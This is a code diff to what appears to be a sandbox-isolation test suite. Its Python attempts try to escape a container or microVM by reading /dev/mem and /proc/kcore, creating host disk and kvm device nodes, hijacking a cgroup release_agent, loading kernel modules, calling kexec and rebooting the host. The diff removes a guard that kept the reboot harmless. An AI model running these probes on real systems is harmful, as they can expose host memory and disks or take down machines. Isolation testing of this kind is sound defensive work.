@@ -10,7 +10,7 @@ import stat
 import struct
 import time
 
-from attempts import BOTH, CONFIG, MICROVM, Own, attempt, each, libc, syscall
+from attempts import BOTH, CONFIG, GVISOR, MICROVM, Own, attempt, each, libc, syscall
 
 FLAG = CONFIG["flag_path"]
 HOST_RELEASE = CONFIG["host_release"]
@@ -55,7 +55,7 @@ def holds_flag(root):
         return file.read() or "an empty file"
 
 
-@attempt("read physical memory", own=(MICROVM,))
+@attempt("read physical memory")
 def _():
     return each([lambda p=p: reads(p) for p in ("/dev/mem", "/dev/kmem", "/dev/port", "/dev/oldmem")]
                 + [lambda: node(stat.S_IFCHR, 1, 1), lambda: node(stat.S_IFCHR, 1, 4)])
@@ -75,24 +75,24 @@ def _():
     return text if HOST_RELEASE.encode() in text else Own(f"{len(text)} bytes of a kernel of its own")
 
 
-@attempt("make nodes of the host's disks", own=(MICROVM,))
+@attempt("make nodes of the host's disks")
 def _():
     return each(lambda a=a, b=b: node(stat.S_IFBLK, a, b)
                 for a in (7, 8, 43, 65, 252, 253, 254, 259) for b in (0, 1))
 
 
-@attempt("make nodes of cuse, kvm, vhost and vfio", own=(MICROVM,))
+@attempt("make nodes of cuse, kvm, vhost and vfio")
 def _():
     return each(lambda b=b: node(stat.S_IFCHR, 10, b) for b in (196, 203, 232, 237, 238, 241))
 
 
-@attempt("make nodes of tun and fuse", own=BOTH)
+@attempt("make nodes of tun and fuse", own=(GVISOR,))
 def _():
-    """Both kernels have their own; a card made with it is in their own network."""
+    """gVisor has its own; a card made with it is in its own network."""
     return each([lambda: node(stat.S_IFCHR, 10, 200), lambda: node(stat.S_IFCHR, 10, 229)])
 
 
-@attempt("open disks that are there", own=(MICROVM,))
+@attempt("open disks that are there")
 def _():
     names = [p for kind in ("sd", "vd", "xvd", "nvme", "loop", "dm-", "nbd") for p in glob.glob(f"/dev/{kind}*")]
     return each(lambda p=p: reads(p) for p in names)
@@ -105,7 +105,7 @@ def _():
     return Own("the help text of its own kernel")
 
 
-@attempt("read /proc/kcore", own=(MICROVM,))
+@attempt("read /proc/kcore")
 def _():
     return reads("/proc/kcore")
 
@@ -138,7 +138,7 @@ def unmounted(where, work):
         libc.umount2(where.encode(), 2)
 
 
-@attempt("be the release agent of a cgroup", own=(MICROVM,))
+@attempt("be the release agent of a cgroup")
 def _():
     def set_agent(where):
         with open(where + "/release_agent", "w") as file:
@@ -155,7 +155,7 @@ def _():
                 for s in ("/", "host", "root", "kataShared", "hostshare"))
 
 
-@attempt("mount disks and kernel filesystems", own=(MICROVM,))
+@attempt("mount disks and kernel filesystems")
 def _():
     def look(where):
         return holds_flag(where) if os.path.exists(where + FLAG) else Own(f"{len(os.listdir(where))} names")
@@ -172,7 +172,7 @@ def _():
     return each(lambda w=w: holds_flag(w) for w in ways)
 
 
-@attempt("open files by guessed handles", own=(MICROVM,))
+@attempt("open files by guessed handles")
 def _():
     root = os.open("/", os.O_RDONLY)
     def guess(inode):
@@ -221,27 +221,25 @@ def _():
     return holds_flag("/proc/1/root") if os.path.exists("/proc/1/root" + FLAG) else Own("a namespace of its own")
 
 
-@attempt("load a kernel module", own=(MICROVM,))
+@attempt("load a kernel module")
 def _():
     garbage = b"\x7fELF" + os.urandom(4096)
     return each([lambda: Own(str(syscall(175, ctypes.c_char_p(garbage), len(garbage), ctypes.c_char_p(b"")))),
                  lambda: Own(str(syscall(313, os.open("/bin/sh", os.O_RDONLY), ctypes.c_char_p(b""), 0)))])
 
 
-@attempt("start another kernel", own=(MICROVM,))
+@attempt("start another kernel")
 def _():
     return each([lambda: Own(f"kexec_load {syscall(246, 0, 0, None, 0)}"),
                  lambda: Own(f"kexec_file_load {syscall(320, -1, -1, 0, None, 4)}")])
 
 
-@attempt("restart the host", own=(MICROVM,))
+@attempt("restart the host")
 def _():
-    # On a microVM only a harmless order: it would obey, and end itself.
-    order = 0 if CONFIG["engine"] == MICROVM else 0x01234567
-    return Own(f"reboot {syscall(169, 0xfee1dead, 672274793, order, None)}")
+    return Own(f"reboot {syscall(169, 0xfee1dead, 672274793, 0x01234567, None)}")
 
 
-@attempt("load a BPF program", own=(MICROVM,))
+@attempt("load a BPF program")
 def _():
     table = struct.pack("IIII", 2, 4, 8, 1) + b"\0" * 104
     code = struct.pack("<BBhi", 0xb7, 0, 0, 0) + struct.pack("<BBhi", 0x95, 0, 0, 0)
@@ -281,14 +279,14 @@ def _():
         return got
 
 
-@attempt("count events of the host's processor", own=(MICROVM,))
+@attempt("count events of the host's processor")
 def _():
     about = struct.pack("IIQ", 0, 112, 0) + b"\0" * 96
     return each(lambda cpu=cpu, pid=pid: Own(f"counter {syscall(298, ctypes.c_char_p(about), pid, cpu, -1, 0)}")
                 for pid, cpu in ((-1, 0), (0, -1), (1, -1)))
 
 
-@attempt("use ports of the processor", own=(MICROVM,))
+@attempt("use ports of the processor")
 def _():
     return each([lambda: Own(f"iopl {syscall(172, 3)}"), lambda: Own(f"ioperm {syscall(173, 0x60, 5, 1)}")])
 
@@ -303,7 +301,7 @@ def _():
     return each(lambda c=c, p=p: connect(c, p) for c in (0, 1, 2) for p in (1, 22, 1024, 8900, 9999))
 
 
-@attempt("set the host's clock", own=(MICROVM,))
+@attempt("set the host's clock")
 def _():
     now = time.time()
     time.clock_settime(time.CLOCK_REALTIME, now + 86400)
@@ -312,7 +310,7 @@ def _():
     return Own(f"its own clock went {moved} seconds")
 
 
-@attempt("outrank the host's processes", own=BOTH)
+@attempt("outrank the host's processes", own=(GVISOR,))
 def _():
     got = None
     for work in (lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99)), lambda: os.nice(-20)):
@@ -363,7 +361,7 @@ def _():
     return Own(f"{seen} of its own")
 
 
-@attempt("type into a terminal that is not its own", own=())
+@attempt("type into a terminal that is not its own")
 def _():
     def push(path):
         fd = os.open(path, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)
